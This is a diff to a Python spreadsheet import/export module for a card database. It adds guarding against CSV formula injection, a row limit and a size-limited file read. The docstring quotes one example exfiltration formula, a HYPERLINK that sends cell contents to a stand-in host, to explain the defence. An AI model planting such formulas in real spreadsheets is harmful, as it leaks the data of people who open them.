@@ -9,20 +9,52 @@ other files, by the header line: the one of comma, semicolon and tab it holds
 most (European spreadsheets save "CSV" with semicolons). Files are read as UTF-8
 (with or without the byte-order mark Excel writes) unless told otherwise, and
 written as UTF-8 with that mark, so that Excel shows accented names correctly.
+
+A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a
+spreadsheet (OWASP's "CSV injection": a card named `=HYPERLINK("http://x/?"&A2,"y")` would
+send the sheet's cells away when clicked). Such a cell is written with a `'` before it, which
+spreadsheets read as "this is text" (`guarded_cell`), and read back without it
+(`unguarded_cell`), so an export imports to the same cards. A plain number (`-3`) stays as it is.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
 
 from carddb.files.atomic import write_bytes
+from carddb.files.reading import SPREADSHEET_BYTES, read_limited
 from carddb.findings.diagnostics import Finding, Span
 
 SEPARATORS = {"csv": ",", "tsv": "\t"}
+# Five times the largest game carddb is measured with (10,000 cards); checking each row as a card is the slow part.
+MAX_ROWS = 50_000
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
+
+
+def guarded_cell(text: str) -> str:
+    """A cell as written to a file: a `'` before text a spreadsheet would run as a formula.
+
+    A cell that already starts with quotes before such text gets one more, so that
+    `unguarded_cell` (which removes exactly one) gives every cell back as it was.
+    """
+    if text.lstrip("'").startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def unguarded_cell(text: str) -> str:
+    """A cell as read from a file: `guarded_cell` undone."""
+    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS):
+        return text[1:]
+    return text
+
+
 TAB_SUFFIXES = {".tsv", ".tab"}
 
 
@@ -57,7 +89,7 @@ def cell_name(row: int, column: int) -> str:
 def read_table(path: Path, *, separator: str | None = None, encoding: str = "utf-8") -> Table:
     table = Table(path)
     try:
-        raw = path.read_bytes()
+        raw = read_limited(path, SPREADSHEET_BYTES, "spreadsheets")  # refused before any work on it
     except OSError as exc:
         table.findings.append(Finding("E-IMPORT-FILE", f"cannot be read: {exc.strerror or exc}", path))
         return table
@@ -104,13 +136,24 @@ def read_table(path: Path, *, separator: str | None = None, encoding: str = "utf
             )
         )
         return table
+    if len(records) > MAX_ROWS + 1:
+        table.findings.append(
+            Finding(
+                "E-IMPORT-FILE",
+                f"holds {len(records):,} rows; carddb imports up to {MAX_ROWS:,} cards at once",
+                path,
+                Span.point(MAX_ROWS + 2, 1),
+                hint="split the spreadsheet, and import each part into its own card file (--to)",
+            )
+        )
+        return table
     filled = [(index, cells) for index, cells in enumerate(records, start=1) if any(cell.strip() for cell in cells)]
     if not filled:
         table.findings.append(Finding("E-IMPORT-FILE", "is empty: there is no header row", path, Span.point(1, 1)))
         return table
     # The header is the first row with something in it; empty rows (spreadsheets leave some) are skipped.
-    table.header_row, table.header = filled[0][0], tuple(filled[0][1])
-    table.rows = [Row(index, tuple(cells)) for index, cells in filled[1:]]
+    table.header_row, table.header = filled[0][0], tuple(unguarded_cell(cell) for cell in filled[0][1])
+    table.rows = [Row(index, tuple(unguarded_cell(cell) for cell in cells)) for index, cells in filled[1:]]
     return table
 
 
@@ -132,17 +175,21 @@ def _separator(path: Path, text: str) -> str:
     return max((",", ";", "\t"), key=first.count)
 
 
-def write_table(path: Path, header: Sequence[str], rows: Sequence[Sequence[str]], *, separator: str = ",") -> Path:
-    """A spreadsheet file, written atomically: UTF-8 with a byte-order mark, lines ended CRLF as RFC 4180 has it."""
-    return write_bytes(path, table_text(header, rows, separator=separator, line_end="\r\n").encode("utf-8-sig"))
+def write_table(
+    path: Path, header: Sequence[str], rows: Sequence[Sequence[str]], *, separator: str = ",", anywhere: bool = False
+) -> Path:
+    """A spreadsheet file, written atomically: UTF-8 with a byte-order mark, lines ended CRLF as RFC 4180 has it.
+    `anywhere`: the user named the file on the command line (see carddb.files.atomic)."""
+    text = table_text(header, rows, separator=separator, line_end="\r\n")
+    return write_bytes(path, text.encode("utf-8-sig"), anywhere=anywhere)
 
 
 def table_text(
     header: Sequence[str], rows: Sequence[Sequence[str]], *, separator: str = ",", line_end: str = "\n"
 ) -> str:
-    """The table as text: cells quoted where they must be (separators, quotes, line breaks)."""
+    """The table as text: cells quoted where they must be (separators, quotes, line breaks), formulas guarded."""
     out = io.StringIO(newline="")
     writer = csv.writer(out, delimiter=separator, lineterminator=line_end)
-    writer.writerow(header)
-    writer.writerows(rows)
+    writer.writerow([guarded_cell(cell) for cell in header])
+    writer.writerows([guarded_cell(cell) for cell in row] for row in rows)
     return out.getvalue()
